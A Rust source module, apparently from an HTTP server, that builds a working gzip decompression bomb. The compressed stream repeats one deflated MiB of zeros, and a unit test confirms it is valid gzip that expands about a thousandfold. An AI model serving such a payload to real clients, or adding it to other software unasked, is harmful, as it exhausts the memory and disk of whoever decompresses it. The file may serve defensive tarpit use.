//! A gzip stream that is far larger inside than outside.

use std::io;

use flate2::{Compress, Compression, Crc, FlushCompress};
use hyper::body::Bytes;

use super::answer::Body;

const MEBIBYTE: usize = 1024 * 1024;

/// The gzip header (RFC 1952, section 2.3): deflate, no flags, no time, unknown system.
const HEADER: &[u8] = &[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];

/// The empty last block of a deflate stream (RFC 1951, section 3.2.6).
const LAST_BLOCK: &[u8] = &[0x03, 0x00];

/// The gzip form of so many MiB of zeros: one valid member. It takes about a thousandth of that in bytes, and the
/// memory of a single MiB, because the same compressed MiB is sent again and again.
pub(super) fn gzip_of_zeros(mebibytes: u64) -> Body {
    let zeros = vec![0; MEBIBYTE];
    let mut crc = Crc::new();
    for _ in 0..mebibytes {
        crc.update(&zeros);
    }
    let tail = [LAST_BLOCK, &crc.sum().to_le_bytes(), &crc.amount().to_le_bytes()].concat();
    // A block that cannot be made is left out; what remains is a bomb that does not go off, and tests would say so.
    let unit = deflated(&zeros).unwrap_or_default();
    Body { head: Bytes::from_static(HEADER), unit: unit.into(), times: Some(mebibytes), tail: tail.into() }
}

/// Deflate blocks that end on a byte and refer to nothing before themselves, so that they can be repeated.
fn deflated(bytes: &[u8]) -> io::Result<Vec<u8>> {
    let mut out = Vec::with_capacity(bytes.len() / 100);
    let mut compress = Compress::new(Compression::best(), false);
    compress.compress_vec(bytes, &mut out, FlushCompress::Full)?;
    Ok(out)
}

#[cfg(test)]
mod tests {
    use std::io::Read;

    use super::*;

    #[test]
    fn the_bomb_is_valid_gzip_and_a_thousand_times_larger_inside() {
        let body = gzip_of_zeros(3);
        let mut bytes = body.head.to_vec();
        (0..3).for_each(|_| bytes.extend_from_slice(&body.unit));
        bytes.extend_from_slice(&body.tail);
        assert_eq!(body.length(), Some(bytes.len() as u64));
        assert!(bytes.len() < 3 * MEBIBYTE / 900, "{} bytes", bytes.len());

        let mut inside = Vec::new();
        flate2::read::GzDecoder::new(&bytes[..]).read_to_end(&mut inside).unwrap();
        assert_eq!(inside, vec![0; 3 * MEBIBYTE]);
    }
}
